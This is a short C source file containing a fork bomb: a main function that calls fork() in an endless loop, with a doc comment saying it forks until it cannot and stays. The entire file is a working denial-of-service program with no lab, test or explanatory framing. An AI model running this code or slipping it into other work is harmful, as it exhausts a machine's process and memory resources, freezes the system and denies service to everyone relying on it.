/** @file @brief Forks until it cannot, in every copy, and stays. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
